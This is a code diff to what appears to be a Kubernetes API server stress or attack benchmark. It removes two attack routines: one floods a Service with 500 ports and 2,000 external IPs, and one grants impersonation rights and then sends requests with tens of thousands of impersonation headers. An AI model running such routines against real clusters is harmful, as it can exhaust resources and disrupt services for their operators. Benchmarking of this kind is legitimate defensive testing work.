@@ -13,7 +13,7 @@ from benchmarks.attacker import Attacker
 from benchmarks.attacks import MAPS, SPACE, attack, config_map, pod, request
 from benchmarks.attacks_by_amplification import REVIEWS
 from benchmarks.attacks_by_number import NAMESPACES, PODS
-from benchmarks.attacks_by_objects import ADMISSION, CREATES, RBAC, admission, rights
+from benchmarks.attacks_by_objects import ADMISSION, CREATES, admission
 from benchmarks.attacks_by_streams import ATTACKS
 
 __all__ = ["ATTACKS"]
@@ -64,18 +64,6 @@ async def selecting_services(who: Attacker) -> set[int]:
     statuses |= await come_and_go(who)
     statuses.add(await who.ask("DELETE", f"{SPACE}/services?labelSelector=of%3Dattack"))
     await asyncio.sleep(2)
-    return statuses
-
-
-@attack("service: 500 ports at 2,000 addresses outside")
-async def external_addresses(who: Attacker) -> list[int]:
-    ports = [{"port": i + 1, "name": f"p{i}"} for i in range(500)]
-    spec = {"ports": ports, "externalIPs": [f"11.0.{i >> 8}.{i & 255}" for i in range(2_000)], "selector": {"a": "b"}}
-    body = {"apiVersion": "v1", "kind": "Service", "metadata": {"name": "outside"}, "spec": spec}
-    statuses = [await who.ask("POST", f"{SPACE}/services", body)]
-    await asyncio.sleep(6)
-    statuses.append(await who.ask("DELETE", f"{SPACE}/services/outside"))
-    await asyncio.sleep(3)
     return statuses
 
 
@@ -147,35 +135,6 @@ async def node(who: Attacker) -> list[Any]:
 
 
 # -- who somebody is ------------------------------------------------------------------
-@attack("impersonation: 30,000 groups, one by one")
-async def groups(who: Attacker) -> set[int]:
-    rule = {"apiGroups": [""], "resources": ["users", "groups"], "verbs": ["impersonate"]}
-    subject = {"kind": "User", "apiGroup": "rbac.authorization.k8s.io", "name": "eve"}
-    reference = {"apiGroup": "rbac.authorization.k8s.io", "kind": "ClusterRole", "name": "masks"}
-    statuses = {
-        await who.ask("POST", f"{RBAC}/clusterroles", rights("ClusterRole", "masks", rules=[rule])),
-        await who.ask(
-            "POST",
-            f"{RBAC}/clusterrolebindings",
-            rights("ClusterRoleBinding", "masks", roleRef=reference, subjects=[subject]),
-        ),
-    }
-    await asyncio.sleep(0.3)
-    account = {"Impersonate_User": "system:serviceaccount:default:default"}
-    head = who.written("GET", MAPS, Connection="close", **account)[:-2]
-    statuses |= {
-        await who.send(head + b"".join(b"Impersonate-Group: g%d\r\n" % i for i in range(30_000)) + b"\r\n")
-        for _ in range(3)
-    }
-    statuses |= {
-        await who.send(head + b"".join(b"Impersonate-Extra-k%d: v\r\n" % i for i in range(20_000)) + b"\r\n")
-        for _ in range(3)
-    }
-    for kind in ("clusterrolebindings", "clusterroles"):
-        await who.ask("DELETE", f"{RBAC}/{kind}/masks")
-    return statuses
-
-
 def token(head: bytes, claims: bytes = b"{}") -> str:
     return ".".join(base64.urlsafe_b64encode(part).rstrip(b"=").decode() for part in (head, claims, b"x"))
 
